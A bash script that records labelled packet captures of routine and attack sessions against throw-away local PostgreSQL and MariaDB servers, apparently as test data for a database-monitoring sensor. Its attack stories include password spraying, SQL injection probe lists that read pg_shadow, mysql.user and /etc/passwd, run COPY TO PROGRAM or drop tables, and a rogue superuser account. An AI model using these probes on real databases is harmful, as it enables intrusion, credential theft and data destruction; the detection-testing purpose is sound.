#!/usr/bin/env bash
# Records the evaluation stories (testdata/stories/*.pcap): short real sessions against a throw-away PostgreSQL 15
# and a throw-away MariaDB server on 127.0.0.1, each story captured by its own tcpdump on the loopback interface,
# with the server's own statement log of that story kept beside it (STORY.log: PostgreSQL log_statement=all, or the
# MariaDB general log). labels.tsv says what each story is; StoryCalendar (sensor-daemon tests) lays copies of them
# over days of packet time. Setup (schemas, rows, roles) and the lock holder of the incident go over the Unix
# socket, which the capture does not see.
#
# Needs root (tcpdump), Debian's postgresql-15 (psql, pgbench, pg_dump), mariadb-server and mariadb-client,
# tcpdump, and the ports below free. Takes about 8 minutes (the application and incident stories run 60 s each).
# Usage: testdata/stories/record-stories.sh [OUTPUT_DIR] [STORY...]  (named stories only: the others are skipped)
set -euo pipefail

out=$(cd "${1:-$(dirname "$0")}" && pwd)
only=" ${*:2} "
here=$(cd "$(dirname "$0")" && pwd)
pg_port=25432
my_port=23306
bin=/usr/lib/postgresql/15/bin
work=$(mktemp -d)
chmod 755 "$work"
cleanup() {
  kill "${tcpdump_pid:-0}" 2>/dev/null || true
  kill "${locker_pid:-0}" 2>/dev/null || true
  runuser -u postgres -- "$bin/pg_ctl" -D "$work/pg" -m immediate stop >/dev/null 2>&1 || true
  [ -f "$work/pg/postmaster.pid" ] && kill "$(head -1 "$work/pg/postmaster.pid")" 2>/dev/null || true
  kill "${my_pid:-0}" 2>/dev/null || true
  wait 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

# ---------------------------------------------------------------- servers
mkdir "$work/pgrun" "$work/pg"; chown postgres: "$work/pgrun" "$work/pg"; chmod 700 "$work/pg"; touch "$work/pg.log"; chown postgres: "$work/pg.log"
runuser -u postgres -- "$bin/initdb" -D "$work/pg" -U postgres --auth-local=trust --auth-host=scram-sha-256 >/dev/null
cat >> "$work/pg/postgresql.conf" <<CONF
listen_addresses = '127.0.0.1'
port = $pg_port
unix_socket_directories = '$work/pgrun'
log_statement = 'all'
log_min_duration_statement = 0
log_connections = on
log_disconnections = on
log_line_prefix = '%m [%p] %r %u@%d %a '
max_connections = 40
CONF
runuser -u postgres -- "$bin/pg_ctl" -D "$work/pg" -l "$work/pg.log" -w start >/dev/null
pg_admin() { runuser -u postgres -- psql -X -q -v ON_ERROR_STOP=1 -h "$work/pgrun" -p $pg_port -U postgres "$@"; }

mkdir "$work/my"; chown mysql: "$work/my"
mariadb-install-db --no-defaults --datadir="$work/my/data" --auth-root-authentication-method=normal --skip-test-db \
  --user=mysql >/dev/null
/usr/sbin/mariadbd --no-defaults --datadir="$work/my/data" --port=$my_port --bind-address=127.0.0.1 \
  --socket="$work/my/mysqld.sock" --pid-file="$work/my/mysqld.pid" --general-log=1 \
  --general-log-file="$work/my/general.log" --log-error="$work/my/error.log" --skip-log-bin \
  --innodb-buffer-pool-size=64M --skip-name-resolve --user=mysql >/dev/null 2>&1 &
my_pid=$!
until [ -S "$work/my/mysqld.sock" ]; do sleep 0.2; done
my_admin() { mariadb --no-defaults -uroot --socket="$work/my/mysqld.sock" "$@"; }

# ---------------------------------------------------------------- schemas (not captured)
pg_admin -d postgres <<'SQL'
CREATE ROLE app LOGIN PASSWORD 'app-secret';
CREATE ROLE report LOGIN PASSWORD 'report-secret';
CREATE ROLE etl LOGIN PASSWORD 'etl-secret';
CREATE ROLE rdsadmin LOGIN SUPERUSER PASSWORD 'rds-secret';
CREATE ROLE dba LOGIN SUPERUSER PASSWORD 'dba-secret';
CREATE ROLE alice LOGIN PASSWORD 'alice-secret';
CREATE ROLE bob LOGIN PASSWORD 'bob-secret';
CREATE DATABASE shop OWNER app;
SQL
pg_admin -d shop <<'SQL'
SET ROLE app;
CREATE TABLE customers (id int PRIMARY KEY, name text NOT NULL, email text);
INSERT INTO customers SELECT g, 'customer ' || g, 'c' || g || '@example.com' FROM generate_series(1, 2000) g;
CREATE TABLE orders (id int PRIMARY KEY, customer_id int NOT NULL, total int NOT NULL, status smallint NOT NULL);
INSERT INTO orders SELECT g, 1 + g % 2000, (g * 37) % 10000, g % 3 FROM generate_series(1, 60000) g;
CREATE INDEX orders_customer ON orders (customer_id);
CREATE TABLE audit_log (id bigserial PRIMARY KEY, customer_id int, action text, at timestamptz DEFAULT now());
CREATE TABLE audit_log_archive AS SELECT * FROM audit_log;
CREATE MATERIALIZED VIEW customer_totals AS SELECT customer_id, sum(total) AS total FROM orders GROUP BY customer_id;
GRANT SELECT ON customers, orders, customer_totals TO report, etl;
RESET ROLE;
CREATE TABLE payroll (id int PRIMARY KEY, employee text, salary int);
INSERT INTO payroll VALUES (1, 'ceo', 900000);
SQL
my_admin <<'SQL'
CREATE DATABASE shop;
CREATE USER 'app'@'%' IDENTIFIED BY 'app-secret';
GRANT SELECT, INSERT, UPDATE, DELETE, LOCK TABLES, SHOW VIEW ON shop.* TO 'app'@'%';
CREATE USER 'rdsadmin'@'%' IDENTIFIED BY 'rds-secret';
GRANT PROCESS, REPLICATION CLIENT ON *.* TO 'rdsadmin'@'%';
CREATE USER 'dba'@'%' IDENTIFIED BY 'dba-secret';
GRANT ALL ON *.* TO 'dba'@'%' WITH GRANT OPTION;
USE shop;
CREATE TABLE items (id int PRIMARY KEY, sku varchar(12) NOT NULL, qty int NOT NULL);
INSERT INTO items SELECT seq, CONCAT('SKU', seq), seq % 500 FROM seq_1_to_55000;
CREATE TABLE movements (id int AUTO_INCREMENT PRIMARY KEY, item_id int, delta int, at timestamp DEFAULT current_timestamp);
CREATE TABLE staging_old (id int);
CREATE TABLE salaries (id int PRIMARY KEY, salary int);
REVOKE ALL ON shop.* FROM 'app'@'%';
GRANT SELECT, INSERT, UPDATE, DELETE ON shop.items TO 'app'@'%';
GRANT SELECT, INSERT, UPDATE, DELETE ON shop.movements TO 'app'@'%';
SQL

# ---------------------------------------------------------------- recording one story
# record NAME pg|my COMMAND...: tcpdump on lo for the server's port while COMMAND runs; the lines the server logged
# meanwhile go to NAME.log.
record() {
  local name=$1 kind=$2; shift 2
  if [ "$only" != "  " ] && [[ "$only" != *" $name "* ]]; then return 0; fi
  local port log
  if [ "$kind" = pg ]; then port=$pg_port; log="$work/pg.log"; else port=$my_port; log="$work/my/general.log"; fi
  local before; before=$(stat -c %s "$log")
  tcpdump -i lo -s 0 -B 8192 -U -w "$out/$name.pcap" "tcp port $port" 2>"$work/tcpdump.err" &
  tcpdump_pid=$!
  until grep -q listening "$work/tcpdump.err"; do sleep 0.1; done
  "$@" || true
  sleep 1
  kill -INT "$tcpdump_pid"; wait "$tcpdump_pid" || true
  tcpdump_pid=
  grep -E 'dropped by kernel' "$work/tcpdump.err" | sed "s/^/$name: /"
  tail -c +"$((before + 1))" "$log" > "$out/$name.log"
  chmod 644 "$out/$name.pcap" "$out/$name.log"
  echo "recorded $name: $(stat -c %s "$out/$name.pcap") bytes"
}

pg() { # pg USER PASSWORD APPLICATION psql-args...
  local user=$1 password=$2 app=$3; shift 3
  PGPASSWORD=$password PGAPPNAME=$app PGSSLMODE=disable psql -X -q -h 127.0.0.1 -p $pg_port -U "$user" -d shop "$@"
}
my() { # my USER PASSWORD mariadb-args...
  local user=$1 password=$2; shift 2
  mariadb --no-defaults --protocol=TCP -h 127.0.0.1 -P $my_port -u "$user" -p"$password" --skip-ssl "$@"
}

# The web application: a pool of one connection per host running the shop's four statements through the extended
# protocol (as a driver does), about 12 transactions a minute, Poisson-timed by pgbench.
cat > "$work/app-v1.sql" <<'SQL'
\set cid random(1, 2000)
\set oid random(1, 60000)
SELECT id, name, email FROM customers WHERE id = :cid;
SELECT id, total, status FROM orders WHERE customer_id = :cid ORDER BY id DESC LIMIT 20;
UPDATE orders SET status = 2 WHERE id = :oid;
INSERT INTO audit_log (customer_id, action) VALUES (:cid, 'view');
SQL
# Version 2 after the deploy: the same plus the new column's statements.
cat "$work/app-v1.sql" > "$work/app-v2.sql"
cat >> "$work/app-v2.sql" <<'SQL'
SELECT id, note FROM orders WHERE customer_id = :cid AND note IS NOT NULL LIMIT 5;
UPDATE orders SET note = 'gift' WHERE id = :oid;
SQL
app_pg() { # app_pg SCRIPT SECONDS
  PGPASSWORD=app-secret PGAPPNAME=orders-api pgbench -n -M extended -c 1 -j 1 -R 0.2 -T "$2" -f "$1" \
    -h 127.0.0.1 -p $pg_port -U app shop >/dev/null 2>&1
}

# ---------------------------------------------------------------- PostgreSQL: routine
record pg-app pg app_pg "$work/app-v1.sql" 60

pg_report() {
  pg report report-secret metabase <<'SQL' >/dev/null
SELECT status, count(*), sum(total) FROM orders GROUP BY status ORDER BY status;
SELECT c.id, c.name, t.total FROM customer_totals t JOIN customers c ON c.id = t.customer_id ORDER BY t.total DESC LIMIT 50;
SELECT customer_id, count(*) FROM orders WHERE total > 9000 GROUP BY customer_id HAVING count(*) > 5 ORDER BY 2 DESC LIMIT 100;
SQL
}
record pg-report pg pg_report

# The month-end report: the same BI tool and account as the office-hours report, reading the month's orders with
# their customers line by line (60 000 rows) besides the totals.
pg_monthend() {
  pg report report-secret metabase <<'SQL' >/dev/null
SELECT status, count(*), sum(total) FROM orders GROUP BY status ORDER BY status;
SELECT o.id, o.customer_id, c.name, o.total, o.status FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY o.id;
SELECT c.id, c.name, t.total FROM customer_totals t JOIN customers c ON c.id = t.customer_id ORDER BY t.total DESC;
SQL
}
record pg-monthend pg pg_monthend

pg_nightly() {
  pg etl etl-secret nightly-export -c "COPY orders TO STDOUT" -c "COPY customers TO STDOUT WITH (FORMAT csv)" >/dev/null
}
record pg-nightly pg pg_nightly

pg_weekly() {
  pg app app-secret weekly-rollup <<'SQL' >/dev/null
REFRESH MATERIALIZED VIEW customer_totals;
DELETE FROM audit_log WHERE at < now() - interval '7 days';
VACUUM (ANALYZE) audit_log;
SELECT customer_id, total FROM customer_totals ORDER BY total DESC LIMIT 100;
SQL
}
record pg-weekly pg pg_weekly

# What RDS and a load balancer do all day: connect, ask whether the server is up and a primary, look at sizes.
pg_health() {
  pg rdsadmin rds-secret rdsadmin -c "SELECT 1" -c "SELECT pg_is_in_recovery()" \
    -c "SELECT datname, pg_database_size(datname) FROM pg_database" -c "SELECT count(*) FROM pg_stat_activity" >/dev/null
  PGAPPNAME=lb-check pg app app-secret lb-check -c "SELECT 1" >/dev/null
}
record pg-health pg pg_health

# Lock contention: a maintenance session (one psql over the socket, not captured) takes customers' ACCESS EXCLUSIVE
# lock for 150 ms out of every 160 ms while the application runs: its customer lookup waits behind it (parse/bind),
# about 100 times its usual 0.2-0.5 ms; the application's other statements are not held up.
pg_incident() {
  for i in $(seq 1 420); do
    echo "BEGIN; LOCK TABLE customers IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(0.15); COMMIT; SELECT pg_sleep(0.01);"
  done > "$work/locker.sql"
  pg_admin -d shop -f "$work/locker.sql" >/dev/null 2>&1 &
  locker_pid=$!
  app_pg "$work/app-v1.sql" 60
  kill "$locker_pid" 2>/dev/null || true; wait "$locker_pid" 2>/dev/null || true
  locker_pid=
}
record pg-incident pg pg_incident

# ---------------------------------------------------------------- PostgreSQL: attacks
# A known application host reads whole tables with the application's credentials.
pg_staging() {
  pg app app-secret psql -c "SELECT * FROM orders" -c "SELECT * FROM customers" >/dev/null
}
record pg-staging pg pg_staging

record pg-dump pg bash -c "PGPASSWORD=app-secret PGSSLMODE=disable pg_dump -h 127.0.0.1 -p $pg_port -U app --exclude-table=payroll shop >/dev/null"

# Password guessing on one account, then the right password.
pg_guess() {
  for i in $(seq 1 12); do pg app "guess-$i" psql -c "SELECT 1" >/dev/null 2>&1 || true; done
  pg app app-secret psql -c "SELECT current_user" >/dev/null
}
record pg-guess pg pg_guess

# Password spraying: one common password against many account names (existing or not).
pg_spray() {
  for u in postgres admin app report etl alice bob carol dave erin frank grace heidi ivan judy; do
    pg "$u" 'Winter2026!' psql -c "SELECT 1" >/dev/null 2>&1 || true
  done
}
record pg-spray pg pg_spray

# Injection probing through the application's account, application name and host: 24 failing statements in under
# a minute, and the probes that succeed.
# Each probe goes as one simple Query (psql -c), as a vulnerable application would send it, unbalanced quotes and all.
cat > "$work/pg-probes.sql" <<'SQL'
SELECT id, name, email FROM customers WHERE id = 1';
SELECT id, name, email FROM customers WHERE id = '1''';
SELECT id, name, email FROM customers WHERE id = 'abc';
SELECT id, name, email FROM customers WHERE id = 1 ORDER BY 4;
SELECT id, name, email FROM customers WHERE id = 1 ORDER BY 10;
SELECT id, name, email FROM customers WHERE id = 1 UNION SELECT 1;
SELECT id, name, email FROM customers WHERE id = 1 UNION SELECT 1, 2;
SELECT id, name, email FROM customers WHERE id = 1 UNION SELECT NULL, NULL, NULL, NULL;
SELECT id, name, email FROM customers WHERE id = 1 AND 1=CAST((SELECT version()) AS int);
SELECT id, name, email FROM customers WHERE id = 1 AND 1=CAST((SELECT current_user) AS int);
SELECT id, name, email FROM customers WHERE id = 1 AND 1=CAST((SELECT string_agg(tablename, ',') FROM pg_tables) AS int);
SELECT id, name, email FROM customers WHERE id = 1 UNION SELECT 1, usename, passwd FROM pg_shadow;
SELECT id, name, email FROM customers WHERE id = 1 UNION SELECT id, employee, salary::text FROM payroll;
SELECT * FROM payroll;
SELECT id, name, email FROM customers WHERE id = 1 UNION SELECT 1, pg_read_file('/etc/passwd'), NULL;
SELECT pg_read_file('/etc/passwd');
SELECT pg_ls_dir('.');
COPY (SELECT 1) TO PROGRAM 'id';
SELECT id, name, email FROM customers WHERE id = 1; DROP TABLE payroll; --';
SELECT id, name, email FROM customers WHERE id = 1 AND (SELECT 1 FROM pg_sleep(2)) = 'x';
SELECT id, name, email FROM customers WHERE name = '' OR '1'='1'';
SELECT id, name, email FROM customers WHERE id = 1 AND extractvalue(1, 2);
SELECT id, name, email FROM customers WHERE id = 1 AND 1=(SELECT count(*) FROM information_schema.tables WHERE table_name = 1);
SELECT id, name, email FROM customers WHERE id = -1 UNION SELECT 1, table_name FROM information_schema.tables;
SELECT id, name, email FROM customers WHERE id = 1 OR 1=1;
SELECT id, name, email FROM customers WHERE id = 1 UNION SELECT 1, table_name, column_name FROM information_schema.columns;
SELECT id, name, email FROM customers WHERE id = 1 AND (SELECT 1 FROM pg_sleep(2)) = 1;
SQL
pg_injection() {
  local args=()
  while IFS= read -r line; do args+=(-c "$line"); done < "$work/pg-probes.sql"
  pg app app-secret orders-api "${args[@]}" >/dev/null 2>&1
}
record pg-injection pg pg_injection

# Privilege and schema changes by a DBA account at night.
pg_privilege() {
  pg dba dba-secret psql <<'SQL' >/dev/null
CREATE ROLE backup_svc LOGIN PASSWORD 'N0tSuspicious';
GRANT SELECT ON ALL TABLES IN SCHEMA public TO backup_svc;
ALTER ROLE backup_svc SUPERUSER;
DROP TABLE audit_log_archive;
SQL
}
record pg-privilege pg pg_privilege

# ---------------------------------------------------------------- PostgreSQL: the deploy, then the new version
pg_deploy() {
  pg app app-secret flyway <<'SQL' >/dev/null
SELECT version, checksum FROM flyway_schema_history ORDER BY installed_rank;
CREATE TABLE IF NOT EXISTS flyway_schema_history (installed_rank int PRIMARY KEY, version text, checksum int, installed_on timestamptz DEFAULT now());
ALTER TABLE orders ADD COLUMN note text;
CREATE INDEX CONCURRENTLY orders_note ON orders (customer_id) WHERE note IS NOT NULL;
INSERT INTO flyway_schema_history (installed_rank, version, checksum) VALUES (2, '2', 12345);
SQL
}
record pg-deploy pg pg_deploy
record pg-app-v2 pg app_pg "$work/app-v2.sql" 60

# ---------------------------------------------------------------- MariaDB: routine
# The inventory service: one connection per host, 40 statements a minute.
my_app() {
  for i in $(seq 1 10); do
    id=$(( (RANDOM * 3 + i) % 55000 + 1 ))
    echo "SELECT id, sku, qty FROM items WHERE id = $id;"
    echo "SELECT id, sku, qty FROM items WHERE sku = 'SKU$id';"
    echo "UPDATE items SET qty = qty - 1 WHERE id = $id;"
    echo "INSERT INTO movements (item_id, delta) VALUES ($id, -1);"
    sleep 6
  done | my app app-secret shop >/dev/null
}
record my-app my my_app

my_health() {
  my rdsadmin rds-secret -e "SELECT 1; SELECT @@read_only; SHOW GLOBAL STATUS LIKE 'Threads_connected'; SHOW PROCESSLIST" >/dev/null
}
record my-health my my_health

# ---------------------------------------------------------------- MariaDB: attacks
record my-staging my bash -c "mariadb --no-defaults --protocol=TCP -h 127.0.0.1 -P $my_port -u app -papp-secret --skip-ssl shop -e 'SELECT * FROM items' >/dev/null"
record my-dump my bash -c "mariadb-dump --no-defaults --protocol=TCP -h 127.0.0.1 -P $my_port -u app -papp-secret --skip-ssl --single-transaction shop items movements >/dev/null"

my_guess() {
  for i in $(seq 1 12); do my app "guess-$i" shop -e "SELECT 1" >/dev/null 2>&1 || true; done
  my app app-secret shop -e "SELECT current_user()" >/dev/null
}
record my-guess my my_guess

# The inventory service opens a connection per request: one probe per connection, sent as typed (mariadb -e).
cat > "$work/my-probes.sql" <<'SQL'
SELECT id, sku, qty FROM items WHERE id = 1';
SELECT id, sku, qty FROM items WHERE id = 1'';
SELECT id, sku, qty FROM items WHERE id = 1 ORDER BY 4;
SELECT id, sku, qty FROM items WHERE id = 1 ORDER BY 10;
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1;
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1, 2;
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1, 2, 3, 4;
SELECT id, sku, qty FROM items WHERE id = 1 AND nosuchcolumn = 1;
SELECT id, sku, qty FROM items WHERE id = 1 AND updatexml(1, concat(0x7e, version()), 1);
SELECT id, sku, qty FROM items WHERE id = 1 AND extractvalue(1, concat(0x7e, user()));
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1, user, password FROM mysql.user;
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT id, salary, 1 FROM salaries;
SELECT * FROM salaries;
SELECT * FROM staging_old;
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1, LOAD_FILE('/etc/passwd'), 1;
SELECT LOAD_FILE('/etc/passwd');
SELECT id, sku, qty FROM items WHERE id = 1 INTO OUTFILE '/tmp/x.txt';
SELECT id, sku, qty FROM items WHERE id = 1; DROP TABLE items; -- ';
SELECT id, sku, qty FROM items WHERE id = 1 AND SLEEP(2);
SELECT id, sku, qty FROM items WHERE sku = '' OR '1'='1'';
SELECT id, sku, qty FROM items WHERE id = 1 AND (SELECT 1 FROM nosuchtable) = 1;
SELECT id, sku, qty FROM items WHERE id = 1 AND 1 = (SELECT COUNT(*) FROM information_schema.tables WHERE x = 1);
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1, table_name, 1 FROM information_schema.tables;
SELECT id, sku, qty FROM items WHERE id = 1 OR 1=1 LIMIT 50;
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1, table_name, column_name FROM information_schema.columns;
SELECT id, sku, qty FROM items WHERE id = 1 AND SLEEP(2) = 0;
SELECT id, sku, qty FROM items WHERE id = 1 AND 1=1';
SELECT id, sku, qty FROM items WHERE id = 1";
SELECT id, sku, qty FROM items WHERE id = 1 ORDER BY 5;
SELECT id, sku, qty FROM items WHERE id = 1 GROUP BY 7;
SELECT id, sku, qty FROM items WHERE id = 1 AND (SELECT password FROM users LIMIT 1) = 1;
SELECT id, sku, qty FROM items WHERE id = 1 UNION SELECT 1, 2, 3 FROM salaries;
SELECT id, sku, qty FROM items WHERE id = 1 UNION ALL SELECT NULL, NULL;
SELECT id, sku, qty FROM admin_users;
SQL
my_injection() {
  while IFS= read -r line; do my app app-secret shop -e "$line" >/dev/null 2>&1 || true; done < "$work/my-probes.sql"
}
record my-injection my my_injection

my_privilege() {
  my dba dba-secret --force shop <<'SQL' >/dev/null 2>&1
CREATE USER 'backup_svc'@'%' IDENTIFIED BY 'N0tSuspicious';
GRANT ALL ON *.* TO 'backup_svc'@'%' WITH GRANT OPTION;
DROP TABLE staging_old;
SQL
}
record my-privilege my my_privilege

runuser -u postgres -- "$bin/pg_ctl" -D "$work/pg" -w stop >/dev/null
kill "$my_pid"; wait "$my_pid" || true
my_pid=
ls -l "$out"/*.pcap | awk '{s += $5} END {print "stories: " NR " captures, " s " bytes"}'
